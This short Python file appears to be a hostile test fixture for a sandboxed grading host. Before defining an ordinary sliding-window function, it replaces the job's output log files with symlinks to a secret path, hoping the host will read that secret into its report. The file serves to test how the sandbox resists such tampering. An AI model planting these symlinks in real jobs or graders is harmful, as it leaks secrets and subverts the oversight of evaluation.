# Hostile: makes the files the host reads back after the run point at a secret of the grading
# user (SECRET is filled in by the test), hoping the host reads it into the report.
import os

import numpy as np

SECRET = "@SECRET@"
for target in ("/job/output.log", "/job/out/output.log", "/job/../output.log"):
    try:
        if os.path.lexists(target):
            os.remove(target)
        os.symlink(SECRET, target)
        print("linked", target, flush=True)
    except OSError as exc:
        print("refused", target, exc.strerror, flush=True)


def split_x(seq, size):
    if size < 1 or size > len(seq):
        raise ValueError("bad size")
    return np.array([seq[i : i + size] for i in range(len(seq) - size + 1)])
